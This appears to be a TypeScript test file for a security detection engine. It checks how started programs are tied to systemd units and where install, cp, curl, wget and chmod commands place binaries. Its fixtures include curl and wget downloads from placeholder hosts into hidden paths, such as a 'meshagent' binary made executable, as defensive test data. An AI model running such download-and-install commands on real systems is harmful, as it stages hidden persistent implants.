// Which unit the manager started a program for, and where commands put programs.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { installedPaths, startedByManager, unitStartedAt } from '../../../src/engine/steps/unit-ties.ts';

/** The rule packs' ties.thresholds.unit_start_seconds. */
const W = 5000;

test('the one service unit started within seconds of a manager-started program', () => {
  const starts = [
    { unit: 'session-12.scope', time: 1000 },
    { unit: 'dbus-broker-helper.service', time: 10_000 },
  ];
  assert.equal(unitStartedAt(11_500, starts, W), 'dbus-broker-helper.service');
  assert.equal(unitStartedAt(9_000, starts, W), 'dbus-broker-helper.service'); // "Starting" logged after the exec
  assert.equal(unitStartedAt(30_000, starts, W), undefined);
  // at boot many units start together: none can be named
  const boot = [...starts, { unit: 'nginx.service', time: 10_400 }];
  assert.equal(unitStartedAt(10_200, boot, W), undefined);
  // the same unit seen by two sensors is still one
  assert.equal(
    unitStartedAt(10_200, [...starts, { unit: 'dbus-broker-helper.service', time: 10_100 }], W),
    'dbus-broker-helper.service',
  );
});

test('the service manager as parent: PID 1 or a user manager', () => {
  assert.ok(startedByManager({ pid: 1 }));
  assert.ok(startedByManager({ pid: 4200, image: '/usr/lib/systemd/systemd' }));
  assert.ok(!startedByManager({ pid: 4200, image: '/usr/bin/bash' }));
  assert.ok(!startedByManager(undefined));
});

test('where install, cp, mv, curl, wget and chmod put a program', () => {
  assert.deepEqual(installedPaths('/usr/bin/install', 'install -D -m 0755 /tmp/dbusd /var/lib/.dbus/dbusd'), [
    '/var/lib/.dbus/dbusd',
  ]);
  assert.deepEqual(installedPaths('/usr/bin/cp', 'cp -f /tmp/a /usr/local/bin/a'), ['/usr/local/bin/a']);
  assert.deepEqual(installedPaths('/usr/bin/curl', 'curl -fsSLo /tmp/.font-unix/kthelper https://x/k'), [
    '/tmp/.font-unix/kthelper',
  ]);
  assert.deepEqual(installedPaths('/usr/bin/curl', 'curl -fsSL -o /tmp/dbusd http://x/d'), ['/tmp/dbusd']);
  assert.deepEqual(installedPaths('/usr/bin/wget', "wget -qO /tmp/meshagent 'https://x/m?id=6'"), [
    '/tmp/meshagent',
  ]);
  assert.deepEqual(installedPaths('/usr/bin/chmod', 'chmod +x /tmp/meshagent'), ['/tmp/meshagent']);
  assert.deepEqual(installedPaths('/usr/bin/chmod', 'chmod 0644 /etc/x.conf'), []);
  assert.deepEqual(installedPaths('/usr/bin/cp', 'cp a b'), []);
  assert.deepEqual(installedPaths('/usr/bin/tee', 'tee /etc/systemd/system/x.service'), []);
});
